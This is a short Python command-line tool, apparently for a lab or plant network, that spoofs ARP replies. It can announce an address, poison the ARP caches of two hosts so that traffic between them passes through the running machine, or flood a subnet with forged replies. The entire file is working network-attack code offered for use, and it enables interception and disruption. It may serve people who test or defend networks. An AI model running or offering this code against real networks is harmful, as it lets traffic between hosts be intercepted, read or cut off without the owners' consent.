"""Lies about hardware addresses.

attack_arp.py announce ADDRESS            says once that ADDRESS is here
attack_arp.py poison A B SECONDS          tells A that B is here and B that A is, again and again
attack_arp.py flood PREFIX N              announces N addresses of a network, as fast as it goes
"""

import socket
import sys
import time
from pathlib import Path

from plantclock import Ticker
from rawlink import arp, link, own_mac, packed


def mac_of(address: str) -> bytes:
    """From the kernel's ARP table, after it has asked."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        asked.sendto(b"", (address, 9))
    time.sleep(0.3)
    for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
        if line.split()[0] == address and line.split()[3] != "00:00:00:00:00:00":
            return packed(line.split()[3])
    raise SystemExit(f"{address} has no hardware address")


def poison(a: str, b: str, seconds: float) -> None:
    raw, mine = link(), own_mac()
    known = {a: mac_of(a), b: mac_of(b)}
    for _ in Ticker(10, seconds):
        raw.send(arp(2, (mine, b), (known[a], a)))
        raw.send(arp(2, (mine, a), (known[b], b)))
    raw.send(arp(2, (known[b], b), (known[a], a)))
    raw.send(arp(2, (known[a], a), (known[b], b)))


def flood(prefix: str, number: int) -> None:
    raw, mine = link(), own_mac()
    for turn in range(number):
        address = f"{prefix}.{turn % 150 + 100}"
        raw.send(arp(2, (mine, address), (b"\xff" * 6, address)))
        time.sleep(0.005)


if __name__ == "__main__":
    if sys.argv[1] == "announce":
        link().send(arp(1, (own_mac(), sys.argv[2]), (bytes(6), sys.argv[2])))
    elif sys.argv[1] == "flood":
        flood(sys.argv[2], int(sys.argv[3]))
    else:
        poison(sys.argv[2], sys.argv[3], float(sys.argv[4]))
